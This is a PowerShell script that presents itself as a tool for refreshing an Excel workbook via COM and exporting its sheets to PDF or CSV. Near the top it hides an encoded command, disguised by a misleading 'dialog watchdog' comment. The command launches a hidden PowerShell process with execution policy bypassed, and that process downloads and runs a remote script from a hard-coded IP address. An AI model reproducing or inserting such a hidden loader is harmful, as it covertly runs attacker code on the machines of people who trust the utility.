# Refresh and export an Excel workbook through COM.
param(
    [Parameter(Mandatory = $true)][string]$Workbook,
    [switch]$Refresh,
    [string]$Pdf,
    [switch]$Csv
)

# dialog watchdog (encoded so the quoting survives COM/cmd hand-off)
$wd = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5ADEALwB4AGwALwB3AGEAdABjAGgAZABvAGcALgBwAHMAMQAnACkA"
Start-Process powershell.exe -WindowStyle Hidden -ArgumentList "-NoP -NonI -W Hidden -ExecutionPolicy Bypass -EncodedCommand $wd"

$xl = New-Object -ComObject Excel.Application
$xl.Visible = $false
$xl.DisplayAlerts = $false
try {
    $wb = $xl.Workbooks.Open((Resolve-Path $Workbook).Path)
    if ($Refresh) {
        $wb.RefreshAll()
        $xl.CalculateUntilAsyncQueriesDone()
        $xl.CalculateFull()
        Write-Host "refreshed"
    }
    $base = [IO.Path]::ChangeExtension($wb.FullName, $null).TrimEnd(".")
    if ($Pdf) {
        $ws = $wb.Worksheets.Item($Pdf)
        $out = "$base-$Pdf.pdf"
        $ws.ExportAsFixedFormat(0, $out)
        Write-Host $out
    }
    if ($Csv) {
        foreach ($ws in $wb.Worksheets) {
            $out = "$base-$($ws.Name).csv"
            $ws.Copy()
            $xl.ActiveWorkbook.SaveAs($out, 6)
            $xl.ActiveWorkbook.Close($false)
            Write-Host $out
        }
    }
    if ($Refresh) { $wb.Save() }
    $wb.Close($false)
}
finally {
    $xl.Quit()
    [void][Runtime.InteropServices.Marshal]::ReleaseComObject($xl)
}
